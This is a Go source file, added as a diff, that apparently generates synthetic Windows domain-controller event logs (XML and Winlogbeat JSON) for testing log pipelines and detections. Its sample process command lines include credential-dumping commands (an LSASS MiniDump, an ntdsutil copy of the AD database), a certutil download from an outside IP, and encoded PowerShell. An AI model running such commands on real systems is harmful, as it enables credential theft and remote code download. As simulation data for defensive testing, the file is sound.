@@ -0,0 +1,803 @@
+package internal
+
+import (
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"math/rand/v2"
+	"slices"
+	"strconv"
+	"strings"
+	"time"
+	"unicode/utf16"
+
+	"data-gen/conf"
+)
+
+const (
+	windowsFormatXML        = "xml"
+	windowsFormatWinlogbeat = "winlogbeat"
+
+	windowsChannelSecurity = "Security"
+	windowsChannelSystem   = "System"
+
+	// windowsDomain is the NetBIOS name of the Active Directory domain, whose DNS name is windowsDNSDomain
+	windowsDomain    = "CORP"
+	windowsDNSDomain = "corp.example.com"
+	// windowsDomainSID is the SID prefix of domain accounts, suffixed by the account RID
+	windowsDomainSID = "S-1-5-21-3623811015-3361044348-30300820"
+	// windowsSystemSID & windowsSystemLogonID identify the LocalSystem account & its logon session
+	windowsSystemSID     = "S-1-5-18"
+	windowsSystemLogonID = "0x3e7"
+	// windowsNullSID is logged for accounts which were not resolved
+	windowsNullSID  = "S-1-0-0"
+	windowsNullGUID = "{00000000-0000-0000-0000-000000000000}"
+
+	windowsKeywordsAuditSuccess = "0x8020000000000000"
+	windowsKeywordsAuditFailure = "0x8010000000000000"
+	windowsKeywordsClassic      = "0x8080000000000000"
+)
+
+// windowsProvider is an event publisher, as recorded in the System element of events.
+type windowsProvider struct {
+	name       string
+	guid       string
+	sourceName string
+	// qualifiers are the high bits of event IDs of classic (non manifest) providers
+	qualifiers int
+	// pid is the process logging events, lsass.exe for security auditing & services.exe for the SCM
+	pid int
+}
+
+var (
+	windowsSecurityAuditing = windowsProvider{
+		name: "Microsoft-Windows-Security-Auditing",
+		guid: "{54849625-5478-4994-a5ba-3e3b0328c30d}",
+		pid:  664,
+	}
+	windowsServiceControlManager = windowsProvider{
+		name:       "Service Control Manager",
+		guid:       "{555908d1-a6d7-4695-8e1e-26931d2012f4}",
+		sourceName: "Service Control Manager",
+		qualifiers: 16384,
+		pid:        788,
+	}
+)
+
+// windowsEventDef describes an event ID, along with the ECS categorization Winlogbeat applies to it.
+type windowsEventDef struct {
+	id       int
+	version  int
+	level    int
+	task     int
+	taskName string
+	channel  string
+	provider windowsProvider
+	message  string
+	action   string
+	category []string
+	types    []string
+	weight   int
+}
+
+var windowsEventDefs = []windowsEventDef{
+	{id: 4624, channel: windowsChannelSecurity, provider: windowsSecurityAuditing, version: 2, task: 12544, taskName: "Logon", message: "An account was successfully logged on.",
+		action: "logged-in", category: []string{"authentication"}, types: []string{"start"}, weight: 25},
+	{id: 4625, channel: windowsChannelSecurity, provider: windowsSecurityAuditing, task: 12544, taskName: "Logon", message: "An account failed to log on.",
+		action: "logon-failed", category: []string{"authentication"}, types: []string{"start"}, weight: 10},
+	{id: 4634, channel: windowsChannelSecurity, provider: windowsSecurityAuditing, task: 12545, taskName: "Logoff", message: "An account was logged off.",
+		action: "logged-out", category: []string{"authentication"}, types: []string{"end"}, weight: 15},
+	{id: 4672, channel: windowsChannelSecurity, provider: windowsSecurityAuditing, task: 12548, taskName: "Special Logon", message: "Special privileges assigned to new logon.",
+		action: "logged-in-special", category: []string{"iam"}, types: []string{"admin"}, weight: 8},
+	{id: 4688, channel: windowsChannelSecurity, provider: windowsSecurityAuditing, version: 2, task: 13312, taskName: "Process Creation", message: "A new process has been created.",
+		action: "created-process", category: []string{"process"}, types: []string{"start"}, weight: 15},
+	{id: 4720, channel: windowsChannelSecurity, provider: windowsSecurityAuditing, task: 13824, taskName: "User Account Management", message: "A user account was created.",
+		action: "added-user-account", category: []string{"iam"}, types: []string{"user", "creation"}, weight: 2},
+	{id: 4732, channel: windowsChannelSecurity, provider: windowsSecurityAuditing, task: 13826, taskName: "Security Group Management", message: "A member was added to a security-enabled local group.",
+		action: "added-member-to-group", category: []string{"iam"}, types: []string{"group", "change"}, weight: 2},
+	{id: 4740, channel: windowsChannelSecurity, provider: windowsSecurityAuditing, task: 13824, taskName: "User Account Management", message: "A user account was locked out.",
+		action: "locked-out-user-account", category: []string{"iam"}, types: []string{"user", "change"}, weight: 2},
+	{id: 4768, channel: windowsChannelSecurity, provider: windowsSecurityAuditing, task: 14339, taskName: "Kerberos Authentication Service", message: "A Kerberos authentication ticket (TGT) was requested.",
+		action: "kerberos-authentication-ticket-requested", category: []string{"authentication"}, types: []string{"start"}, weight: 8},
+	{id: 4769, channel: windowsChannelSecurity, provider: windowsSecurityAuditing, task: 14337, taskName: "Kerberos Service Ticket Operations", message: "A Kerberos service ticket was requested.",
+		action: "kerberos-service-ticket-requested", category: []string{"authentication"}, types: []string{"start"}, weight: 8},
+	{id: 7036, level: 4, channel: windowsChannelSystem, provider: windowsServiceControlManager, weight: 4},
+	{id: 7045, level: 4, channel: windowsChannelSystem, provider: windowsServiceControlManager,
+		message: "A service was installed in the system.", weight: 1},
+}
+
+// windowsAccount is a domain account, identified by its relative ID (RID) within the domain.
+type windowsAccount struct {
+	name  string
+	rid   int
+	admin bool
+}
+
+func (a windowsAccount) sid() string {
+	return fmt.Sprintf("%s-%d", windowsDomainSID, a.rid)
+}
+
+var windowsAccounts = []windowsAccount{
+	{"Administrator", 500, true},
+	{"alice.smith", 1104, false},
+	{"bob.jones", 1105, false},
+	{"carol.white", 1118, false},
+	{"adm.dave", 1201, true},
+	{"svc_sql", 1302, false},
+	{"svc_backup", 1303, true},
+}
+
+var windowsNewAccounts = []string{"temp.admin", "support01", "eve.martin", "svc_deploy"}
+
+var windowsDomainControllers = []string{"DC01", "DC02"}
+
+var windowsWorkstations = []string{"WS-0142", "WS-0277", "WS-0318", "LAPTOP-8KD2QF", "SQL01"}
+
+// windowsProcess is a process image along with a sample command line.
+type windowsProcess struct {
+	image       string
+	commandLine string
+}
+
+var windowsProcesses = []windowsProcess{
+	{`C:\Windows\System32\cmd.exe`, `cmd.exe /c whoami /all`},
+	{`C:\Windows\System32\net.exe`, `net user /domain`},
+	{`C:\Windows\System32\net.exe`, `net group "Domain Admins" /domain`},
+	{`C:\Windows\System32\nltest.exe`, `nltest /dclist:corp.example.com`},
+	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=`},
+	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe Get-ADUser -Filter * -Properties LastLogonDate`},
+	{`C:\Windows\System32\ntdsutil.exe`, `ntdsutil "ac i ntds" ifm "create full C:\Windows\Temp\ntds" q q`},
+	{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 664 C:\Windows\Temp\lsass.dmp full`},
+	{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\Users\Public\a.exe`},
+	{`C:\Windows\System32\gpupdate.exe`, `gpupdate /force`},
+	{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s gpsvc`},
+}
+
+var windowsParentProcesses = []string{
+	`C:\Windows\explorer.exe`,
+	`C:\Windows\System32\cmd.exe`,
+	`C:\Windows\System32\services.exe`,
+	`C:\Windows\System32\wbem\WmiPrvSE.exe`,
+}
+
+// windowsService is a service installed through the Service Control Manager.
+type windowsService struct {
+	name      string
+	imagePath string
+	startType string
+	account   string
+}
+
+var windowsServices = []windowsService{
+	{"PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, "demand start", "LocalSystem"},
+	{"Datadog Agent", `"C:\Program Files\Datadog\Datadog Agent\bin\agent.exe"`, "auto start", "LocalSystem"},
+	{"WinRM Helper", `C:\Windows\Temp\svc.exe -k`, "auto start", "LocalSystem"},
+	{"Sysmon64", `C:\Windows\Sysmon64.exe`, "auto start", "LocalSystem"},
+	{"SQL Backup Agent", `"C:\Program Files\SQLBackup\backupagent.exe" -service`, "auto start", windowsDomain + `\svc_backup`},
+}
+
+// windowsStateChanges are display & short names of services reporting state changes.
+var windowsStateChanges = [][2]string{
+	{"Windows Update", "wuauserv"},
+	{"Print Spooler", "Spooler"},
+	{"Windows Modules Installer", "TrustedInstaller"},
+	{"Background Intelligent Transfer Service", "BITS"},
+	{"WinHTTP Web Proxy Auto-Discovery Service", "WinHttpAutoProxySvc"},
+}
+
+// windowsXMLEscaper escapes EventData values same as wevtutil, except newlines are escaped to keep a single line per event.
+var windowsXMLEscaper = strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;", "\r", "&#xD;", "\n", "&#xA;")
+
+var windowsAdminPrivileges = []string{
+	"SeSecurityPrivilege",
+	"SeBackupPrivilege",
+	"SeRestorePrivilege",
+	"SeTakeOwnershipPrivilege",
+	"SeDebugPrivilege",
+	"SeSystemEnvironmentPrivilege",
+	"SeLoadDriverPrivilege",
+	"SeImpersonatePrivilege",
+	"SeDelegateSessionUserImpersonatePrivilege",
+	"SeEnableDelegationPrivilege",
+}
+
+// WindowsEventsGen generates Windows event logs of domain controllers, as Windows event XML or as Winlogbeat ECS documents.
+// Each data point is a single Security or System event.
+type WindowsEventsGen struct {
+	buf       trackedBuffer
+	format    string
+	defs      []windowsEventDef
+	recordIDs map[string]uint64
+}
+
+// windowsEventsCfg specifies the log_format and optionally the event_ids to generate.
+type windowsEventsCfg struct {
+	LogFormat string `yaml:"log_format"`
+	EventIDs  []int  `yaml:"event_ids"`
+}
+
+func NewWindowsEventsGen(input conf.InputConfig) (*WindowsEventsGen, error) {
+	cfg := windowsEventsCfg{LogFormat: windowsFormatXML}
+
+	err := input.Conf.Decode(&cfg)
+	if err != nil {
+		return nil, fmt.Errorf("failed to decode windows events configuration: %w", err)
+	}
+
+	if cfg.LogFormat != windowsFormatXML && cfg.LogFormat != windowsFormatWinlogbeat {
+		return nil, fmt.Errorf("unknown windows events log format: %s", cfg.LogFormat)
+	}
+
+	defs := windowsEventDefs
+	if len(cfg.EventIDs) > 0 {
+		defs = nil
+		for _, id := range cfg.EventIDs {
+			idx := slices.IndexFunc(windowsEventDefs, func(d windowsEventDef) bool { return d.id == id })
+			if idx < 0 {
+				return nil, fmt.Errorf("unsupported windows event ID: %d", id)
+			}
+			defs = append(defs, windowsEventDefs[idx])
+		}
+	}
+
+	return &WindowsEventsGen{
+		buf:    newTrackedBuffer(),
+		format: cfg.LogFormat,
+		defs:   defs,
+		recordIDs: map[string]uint64{
+			windowsChannelSecurity: uint64(rand.IntN(10_000_000)),
+			windowsChannelSystem:   uint64(rand.IntN(100_000)),
+		},
+	}, nil
+}
+
+func (w *WindowsEventsGen) Generate() (int64, error) {
+	def := pickWindowsEventDef(w.defs)
+	w.recordIDs[def.channel]++
+	c := newWindowsEventCustomizer(def, w.recordIDs[def.channel])
+
+	var line string
+	if w.format == windowsFormatWinlogbeat {
+		var err error
+		line, err = buildWinlogbeatEvent(c)
+		if err != nil {
+			return 0, err
+		}
+	} else {
+		line = buildWindowsEventXML(c)
+	}
+
+	err := w.buf.write([]byte(line + "\n"))
+	if err != nil {
+		return 0, err
+	}
+
+	return w.buf.size(), nil
+}
+
+func (w *WindowsEventsGen) GetAndReset() []byte {
+	return w.buf.getAndReset()
+}
+
+func (w *WindowsEventsGen) RecordTimestamp(record string) (time.Time, bool) {
+	if w.format == windowsFormatWinlogbeat {
+		return jsonTimestamp(record, "@timestamp")
+	}
+
+	return windowsEventTimestamp(record)
+}
+
+// windowsEventTimestamp parses the creation time of Windows event XML, ex:- <TimeCreated SystemTime='2026-10-19T10:20:30.1234567Z'/>.
+func windowsEventTimestamp(line string) (time.Time, bool) {
+	_, systemTime, found := strings.Cut(line, "SystemTime='")
+	if !found {
+		return time.Time{}, false
+	}
+
+	systemTime, _, _ = strings.Cut(systemTime, "'")
+	return parseTimestamp(systemTime)
+}
+
+func pickWindowsEventDef(defs []windowsEventDef) windowsEventDef {
+	total := 0
+	for _, d := range defs {
+		total += d.weight
+	}
+
+	n := rand.IntN(total)
+	for _, d := range defs {
+		if n < d.weight {
+			return d
+		}
+		n -= d.weight
+	}
+
+	return defs[len(defs)-1]
+}
+
+// windowsEventData is a named EventData value, kept in the order the provider manifest defines them.
+type windowsEventData struct {
+	name  string
+	value string
+}
+
+// windowsEventCustomizer holds parameters of a single Windows event.
+type windowsEventCustomizer struct {
+	def      windowsEventDef
+	time     time.Time
+	recordID uint64
+	computer string
+	threadID int
+	failure  bool
+	// userSID is the account logging the event, recorded for events of classic providers
+	userSID string
+	data    []windowsEventData
+	// binary is hex encoded raw event data, logged by classic providers
+	binary string
+	// message overrides the description of the definition
+	message string
+}
+
+func newWindowsEventCustomizer(def windowsEventDef, recordID uint64) windowsEventCustomizer {
+	dc := windowsDomainControllers[rand.IntN(len(windowsDomainControllers))]
+	c := windowsEventCustomizer{
+		def:      def,
+		time:     time.Now().UTC(),
+		recordID: recordID,
+		computer: dc + "." + windowsDNSDomain,
+		threadID: rand.IntN(8000) + 100,
+		message:  def.message,
+	}
+
+	user := windowsAccounts[rand.IntN(len(windowsAccounts))]
+	admin := randomWindowsAdmin()
+	workstation := windowsWorkstations[rand.IntN(len(windowsWorkstations))]
+	clientIP := fmt.Sprintf("10.0.%d.%d", rand.IntN(8)+1, rand.IntN(250)+2)
+	logonID := randomWindowsLogonID()
+	// the DC machine account, acting on behalf of the local system
+	system := []windowsEventData{
+		{"SubjectUserSid", windowsSystemSID},
+		{"SubjectUserName", dc + "$"},
+		{"SubjectDomainName", windowsDomain},
+		{"SubjectLogonId", windowsSystemLogonID},
+	}
+	subject := []windowsEventData{
+		{"SubjectUserSid", admin.sid()},
+		{"SubjectUserName", admin.name},
+		{"SubjectDomainName", windowsDomain},
+		{"SubjectLogonId", randomWindowsLogonID()},
+	}
+
+	switch def.id {
+	case 4624:
+		logonType, logonProcess, authPackage, lmPackage, keyLength := "3", "Kerberos", "Kerberos", "-", "0"
+		processID, processName, ipAddress, ipPort := "0x0", "-", clientIP, strconv.Itoa(randomPort())
+		// only Kerberos logons carry a logon GUID
+		logonGUID := randomWindowsGUID()
+		switch rand.IntN(4) {
+		case 0:
+			logonType, logonProcess, authPackage, lmPackage, keyLength = "3", "NtLmSsp ", "NTLM", "NTLM V2", "128"
+			logonGUID = windowsNullGUID
+		case 1:
+			logonType, logonProcess, authPackage = "10", "User32 ", "Negotiate"
+			processID, processName = "0x1f4c", `C:\Windows\System32\svchost.exe`
+		}
+		elevated := "%%1843"
+		if user.admin {
+			elevated = "%%1842"
+		}
+		c.data = append(system,
+			windowsEventData{"TargetUserSid", user.sid()},
+			windowsEventData{"TargetUserName", user.name},
+			windowsEventData{"TargetDomainName", windowsDomain},
+			windowsEventData{"TargetLogonId", logonID},
+			windowsEventData{"LogonType", logonType},
+			windowsEventData{"LogonProcessName", logonProcess},
+			windowsEventData{"AuthenticationPackageName", authPackage},
+			windowsEventData{"WorkstationName", workstation},
+			windowsEventData{"LogonGuid", logonGUID},
+			windowsEventData{"TransmittedServices", "-"},
+			windowsEventData{"LmPackageName", lmPackage},
+			windowsEventData{"KeyLength", keyLength},
+			windowsEventData{"ProcessId", processID},
+			windowsEventData{"ProcessName", processName},
+			windowsEventData{"IpAddress", ipAddress},
+			windowsEventData{"IpPort", ipPort},
+			windowsEventData{"ImpersonationLevel", "%%1833"},
+			windowsEventData{"RestrictedAdminMode", "-"},
+			windowsEventData{"TargetOutboundUserName", "-"},
+			windowsEventData{"TargetOutboundDomainName", "-"},
+			windowsEventData{"VirtualAccount", "%%1843"},
+			windowsEventData{"TargetLinkedLogonId", "0x0"},
+			windowsEventData{"ElevatedToken", elevated},
+		)
+	case 4625:
+		c.failure = true
+		// bad password, unknown user or locked out account
+		targetName, status, subStatus := user.name, "0xc000006d", "0xc000006a"
+		switch rand.IntN(4) {
+		case 0:
+			targetName, subStatus = []string{"admin", "test", "scanner", "backup"}[rand.IntN(4)], "0xc0000064"
+		case 1:
+			status, subStatus = "0xc0000234", "0x0"
+		}
+		c.data = append(system,
+			windowsEventData{"TargetUserSid", windowsNullSID},
+			windowsEventData{"TargetUserName", targetName},
+			windowsEventData{"TargetDomainName", windowsDomain},
+			windowsEventData{"Status", status},
+			windowsEventData{"FailureReason", "%%2313"},
+			windowsEventData{"SubStatus", subStatus},
+			windowsEventData{"LogonType", "3"},
+			windowsEventData{"LogonProcessName", "NtLmSsp "},
+			windowsEventData{"AuthenticationPackageName", "NTLM"},
+			windowsEventData{"WorkstationName", workstation},
+			windowsEventData{"TransmittedServices", "-"},
+			windowsEventData{"LmPackageName", "-"},
+			windowsEventData{"KeyLength", "0"},
+			windowsEventData{"ProcessId", "0x0"},
+			windowsEventData{"ProcessName", "-"},
+			windowsEventData{"IpAddress", randomIP()},
+			windowsEventData{"IpPort", strconv.Itoa(randomPort())},
+		)
+	case 4634:
+		c.data = []windowsEventData{
+			{"TargetUserSid", user.sid()},
+			{"TargetUserName", user.name},
+			{"TargetDomainName", windowsDomain},
+			{"TargetLogonId", logonID},
+			{"LogonType", "3"},
+		}
+	case 4672:
+		c.data = []windowsEventData{
+			{"SubjectUserSid", admin.sid()},
+			{"SubjectUserName", admin.name},
+			{"SubjectDomainName", windowsDomain},
+			{"SubjectLogonId", logonID},
+			{"PrivilegeList", strings.Join(windowsAdminPrivileges, "\n\t\t\t")},
+		}
+	case 4688:
+		process := windowsProcesses[rand.IntN(len(windowsProcesses))]
+		// full, limited or default elevation with high, medium or system integrity
+		elevation, label := "%%1936", "S-1-16-12288"
+		switch rand.IntN(3) {
+		case 0:
+			elevation, label = "%%1938", "S-1-16-8192"
+		case 1:
+			elevation, label = "%%1936", "S-1-16-16384"
+		}
+		c.data = append(subject,
+			windowsEventData{"NewProcessId", randomWindowsProcessID()},
+			windowsEventData{"NewProcessName", process.image},
+			windowsEventData{"TokenElevationType", elevation},
+			windowsEventData{"ProcessId", randomWindowsProcessID()},
+			windowsEventData{"CommandLine", process.commandLine},
+			windowsEventData{"TargetUserSid", windowsNullSID},
+			windowsEventData{"TargetUserName", "-"},
+			windowsEventData{"TargetDomainName", "-"},
+			windowsEventData{"TargetLogonId", "0x0"},
+			windowsEventData{"ParentProcessName", windowsParentProcesses[rand.IntN(len(windowsParentProcesses))]},
+			windowsEventData{"MandatoryLabel", label},
+		)
+	case 4720:
+		name := windowsNewAccounts[rand.IntN(len(windowsNewAccounts))]
+		// %%1793 is <value not set> and %%1794 is <never>
+		c.data = []windowsEventData{
+			{"TargetUserName", name},
+			{"TargetDomainName", windowsDomain},
+			{"TargetSid", fmt.Sprintf("%s-%d", windowsDomainSID, rand.IntN(8000)+2000)},
+		}
+		c.data = append(c.data, subject...)
+		c.data = append(c.data,
+			windowsEventData{"PrivilegeList", "-"},
+			windowsEventData{"SamAccountName", name},
+			windowsEventData{"DisplayName", "%%1793"},
+			windowsEventData{"UserPrincipalName", name + "@" + windowsDNSDomain},
+			windowsEventData{"HomeDirectory", "%%1793"},
+			windowsEventData{"HomePath", "%%1793"},
+			windowsEventData{"ScriptPath", "%%1793"},
+			windowsEventData{"ProfilePath", "%%1793"},
+			windowsEventData{"UserWorkstations", "%%1793"},
+			windowsEventData{"PasswordLastSet", "%%1794"},
+			windowsEventData{"AccountExpires", "%%1794"},
+			windowsEventData{"PrimaryGroupId", "513"},
+			windowsEventData{"AllowedToDelegateTo", "-"},
+			windowsEventData{"OldUacValue", "0x0"},
+			windowsEventData{"NewUacValue", "0x15"},
+			windowsEventData{"UserAccountControl", "\n\t\t%%2080\n\t\t%%2082\n\t\t%%2084"},
+			windowsEventData{"UserParameters", "%%1793"},
+			windowsEventData{"SidHistory", "-"},
+			windowsEventData{"LogonHours", "%%1797"},
+		)
+	case 4732:
+		c.data = []windowsEventData{
+			{"MemberName", fmt.Sprintf("CN=%s,CN=Users,DC=corp,DC=example,DC=com", user.name)},
+			{"MemberSid", user.sid()},
+			{"TargetUserName", "Administrators"},
+			{"TargetDomainName", "Builtin"},
+			{"TargetSid", "S-1-5-32-544"},
+		}
+		c.data = append(c.data, subject...)
+		c.data = append(c.data, windowsEventData{"PrivilegeList", "-"})
+	case 4740:
+		c.data = []windowsEventData{
+			{"TargetUserName", user.name},
+			{"TargetDomainName", workstation},
+			{"TargetSid", user.sid()},
+		}
+		c.data = append(c.data, system...)
+	case 4768:
+		// pre-authentication failures are audited as failures
+		status := "0x0"
+		if rand.IntN(5) == 0 {
+			status = "0x18"
+			c.failure = true
+		}
+		c.data = []windowsEventData{
+			{"TargetUserName", user.name},
+			{"TargetDomainName", windowsDomain},
+			{"TargetSid", user.sid()},
+			{"ServiceName", "krbtgt"},
+			{"ServiceSid", windowsDomainSID + "-502"},
+			{"TicketOptions", "0x40810010"},
+			{"Status", status},
+			{"TicketEncryptionType", "0x12"},
+			{"PreAuthType", "2"},
+			{"IpAddress", "::ffff:" + clientIP},
+			{"IpPort", strconv.Itoa(randomPort())},
+			{"CertIssuerName", ""},
+			{"CertSerialNumber", ""},
+			{"CertThumbprint", ""},
+		}
+	case 4769:
+		// service tickets of service accounts encrypted with RC4 hint kerberoasting
+		service := windowsAccounts[rand.IntN(len(windowsAccounts))]
+		serviceName, encryption := workstation+"$", "0x12"
+		if strings.HasPrefix(service.name, "svc_") {
+			serviceName, encryption = service.name, []string{"0x12", "0x17"}[rand.IntN(2)]
+		}
+		c.data = []windowsEventData{
+			{"TargetUserName", user.name + "@" + strings.ToUpper(windowsDNSDomain)},
+			{"TargetDomainName", strings.ToUpper(windowsDNSDomain)},
+			{"ServiceName", serviceName},
+			{"ServiceSid", service.sid()},
+			{"TicketOptions", "0x40810000"},
+			{"TicketEncryptionType", encryption},
+			{"IpAddress", "::ffff:" + clientIP},
+			{"IpPort", strconv.Itoa(randomPort())},
+			{"Status", "0x0"},
+			{"LogonGuid", randomWindowsGUID()},
+			{"TransmittedServices", "-"},
+		}
+	case 7036:
+		service := windowsStateChanges[rand.IntN(len(windowsStateChanges))]
+		state, code := "running", 4
+		if rand.IntN(2) == 0 {
+			state, code = "stopped", 1
+		}
+		c.userSID = windowsSystemSID
+		c.message = fmt.Sprintf("The %s service entered the %s state.", service[0], state)
+		c.data = []windowsEventData{{"param1", service[0]}, {"param2", state}}
+		c.binary = windowsBinary(fmt.Sprintf("%s/%d", service[1], code))
+	case 7045:
+		service := windowsServices[rand.IntN(len(windowsServices))]
+		c.userSID = admin.sid()
+		c.data = []windowsEventData{
+			{"ServiceName", service.name},
+			{"ImagePath", service.imagePath},
+			{"ServiceType", "user mode service"},
+			{"StartType", service.startType},
+			{"AccountName", service.account},
+		}
+	}
+
+	return c
+}
+
+func (c windowsEventCustomizer) keywords() string {
+	switch {
+	case c.def.channel != windowsChannelSecurity:
+		return windowsKeywordsClassic
+	case c.failure:
+		return windowsKeywordsAuditFailure
+	default:
+		return windowsKeywordsAuditSuccess
+	}
+}
+
+// buildWindowsEventXML renders the event as a single line of event XML, same as wevtutil query-events.
+func buildWindowsEventXML(c windowsEventCustomizer) string {
+	var sb strings.Builder
+	p := c.def.provider
+
+	sb.WriteString("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>")
+	fmt.Fprintf(&sb, "<Provider Name='%s' Guid='%s'", p.name, p.guid)
+	if p.sourceName != "" {
+		fmt.Fprintf(&sb, " EventSourceName='%s'", p.sourceName)
+	}
+	sb.WriteString("/>")
+	if p.qualifiers != 0 {
+		fmt.Fprintf(&sb, "<EventID Qualifiers='%d'>%d</EventID>", p.qualifiers, c.def.id)
+	} else {
+		fmt.Fprintf(&sb, "<EventID>%d</EventID>", c.def.id)
+	}
+	fmt.Fprintf(&sb, "<Version>%d</Version><Level>%d</Level><Task>%d</Task><Opcode>0</Opcode><Keywords>%s</Keywords>",
+		c.def.version, c.def.level, c.def.task, c.keywords())
+	fmt.Fprintf(&sb, "<TimeCreated SystemTime='%s'/><EventRecordID>%d</EventRecordID><Correlation/>",
+		c.time.Format("2006-01-02T15:04:05.0000000Z"), c.recordID)
+	fmt.Fprintf(&sb, "<Execution ProcessID='%d' ThreadID='%d'/><Channel>%s</Channel><Computer>%s</Computer>",
+		p.pid, c.threadID, c.def.channel, c.computer)
+	if c.userSID != "" {
+		fmt.Fprintf(&sb, "<Security UserID='%s'/>", c.userSID)
+	} else {
+		sb.WriteString("<Security/>")
+	}
+	sb.WriteString("</System><EventData>")
+	for _, d := range c.data {
+		fmt.Fprintf(&sb, "<Data Name='%s'>%s</Data>", d.name, windowsXMLEscaper.Replace(d.value))
+	}
+	if c.binary != "" {
+		fmt.Fprintf(&sb, "<Binary>%s</Binary>", c.binary)
+	}
+	sb.WriteString("</EventData></Event>")
+
+	return sb.String()
+}
+
+// winlogbeatEvent is the ECS document Winlogbeat publishes for an event.
+type winlogbeatEvent struct {
+	Timestamp string          `json:"@timestamp"`
+	Agent     winlogbeatAgent `json:"agent"`
+	ECS       struct {
+		Version string `json:"version"`
+	} `json:"ecs"`
+	Event winlogbeatEventMeta `json:"event"`
+	Host  struct {
+		Name string `json:"name"`
+	} `json:"host"`
+	Log struct {
+		Level string `json:"level"`
+	} `json:"log"`
+	Message string         `json:"message"`
+	Winlog  winlogbeatData `json:"winlog"`
+}
+
+type winlogbeatAgent struct {
+	Type    string `json:"type"`
+	Version string `json:"version"`
+}
+
+type winlogbeatEventMeta struct {
+	Action   string   `json:"action,omitempty"`
+	Category []string `json:"category,omitempty"`
+	Code     string   `json:"code"`
+	Created  string   `json:"created"`
+	Kind     string   `json:"kind"`
+	Outcome  string   `json:"outcome,omitempty"`
+	Provider string   `json:"provider"`
+	Type     []string `json:"type,omitempty"`
+}
+
+type winlogbeatData struct {
+	API          string            `json:"api"`
+	Channel      string            `json:"channel"`
+	ComputerName string            `json:"computer_name"`
+	EventData    map[string]string `json:"event_data"`
+	EventID      string            `json:"event_id"`
+	Keywords     []string          `json:"keywords"`
+	Opcode       string            `json:"opcode"`
+	Process      struct {
+		PID    int `json:"pid"`
+		Thread struct {
+			ID int `json:"id"`
+		} `json:"thread"`
+	} `json:"process"`
+	ProviderGUID string `json:"provider_guid"`
+	ProviderName string `json:"provider_name"`
+	RecordID     uint64 `json:"record_id"`
+	Task         string `json:"task,omitempty"`
+	User         *struct {
+		Identifier string `json:"identifier"`
+	} `json:"user,omitempty"`
+	Version int `json:"version,omitempty"`
+}
+
+// buildWinlogbeatEvent renders the event as a Winlogbeat document, including ECS categorization of Security events.
+func buildWinlogbeatEvent(c windowsEventCustomizer) (string, error) {
+	e := winlogbeatEvent{
+		Timestamp: c.time.Format("2006-01-02T15:04:05.000Z"),
+		Agent:     winlogbeatAgent{Type: "winlogbeat", Version: "8.15.0"},
+		Message:   c.message,
+	}
+	e.ECS.Version = "8.0.0"
+	e.Host.Name = c.computer
+	e.Log.Level = "information"
+
+	e.Event = winlogbeatEventMeta{
+		Action:   c.def.action,
+		Category: c.def.category,
+		Code:     strconv.Itoa(c.def.id),
+		Created:  c.time.Add(time.Duration(rand.IntN(2000)+50) * time.Millisecond).Format("2006-01-02T15:04:05.000Z"),
+		Kind:     "event",
+		Provider: c.def.provider.name,
+		Type:     c.def.types,
+	}
+
+	keywords := []string{"Classic"}
+	if c.def.channel == windowsChannelSecurity {
+		keywords, e.Event.Outcome = []string{"Audit Success"}, "success"
+		if c.failure {
+			keywords, e.Event.Outcome = []string{"Audit Failure"}, "failure"
+		}
+	}
+
+	eventData := make(map[string]string, len(c.data)+1)
+	for _, d := range c.data {
+		eventData[d.name] = d.value
+	}
+	if c.binary != "" {
+		eventData["Binary"] = c.binary
+	}
+
+	e.Winlog = winlogbeatData{
+		API:          "wineventlog",
+		Channel:      c.def.channel,
+		ComputerName: c.computer,
+		EventData:    eventData,
+		EventID:      strconv.Itoa(c.def.id),
+		Keywords:     keywords,
+		Opcode:       "Info",
+		ProviderGUID: c.def.provider.guid,
+		ProviderName: c.def.provider.name,
+		RecordID:     c.recordID,
+		Task:         c.def.taskName,
+		Version:      c.def.version,
+	}
+	e.Winlog.Process.PID = c.def.provider.pid
+	e.Winlog.Process.Thread.ID = c.threadID
+	if c.userSID != "" {
+		e.Winlog.User = &struct {
+			Identifier string `json:"identifier"`
+		}{c.userSID}
+	}
+
+	out, err := json.Marshal(e)
+	if err != nil {
+		return "", fmt.Errorf("failed to marshal winlogbeat event: %w", err)
+	}
+
+	return string(out), nil
+}
+
+// randomWindowsAdmin returns a domain account holding administrative privileges.
+func randomWindowsAdmin() windowsAccount {
+	for {
+		a := windowsAccounts[rand.IntN(len(windowsAccounts))]
+		if a.admin {
+			return a
+		}
+	}
+}
+
+func randomWindowsLogonID() string {
+	return fmt.Sprintf("0x%x", rand.IntN(0xfffffff)+0x100000)
+}
+
+func randomWindowsProcessID() string {
+	return fmt.Sprintf("0x%x", (rand.IntN(16000)+100)*4)
+}
+
+func randomWindowsGUID() string {
+	return strings.ToUpper(fmt.Sprintf("{%s-%s-%s-%s-%s}",
+		randomHexString(8), randomHexString(4), randomHexString(4), randomHexString(4), randomHexString(12)))
+}
+
+// windowsBinary hex encodes the raw data of classic providers, which is a UTF-16LE string.
+func windowsBinary(value string) string {
+	var raw []byte
+	for _, u := range utf16.Encode([]rune(value)) {
+		raw = append(raw, byte(u), byte(u>>8))
+	}
+
+	return strings.ToUpper(hex.EncodeToString(raw))
+}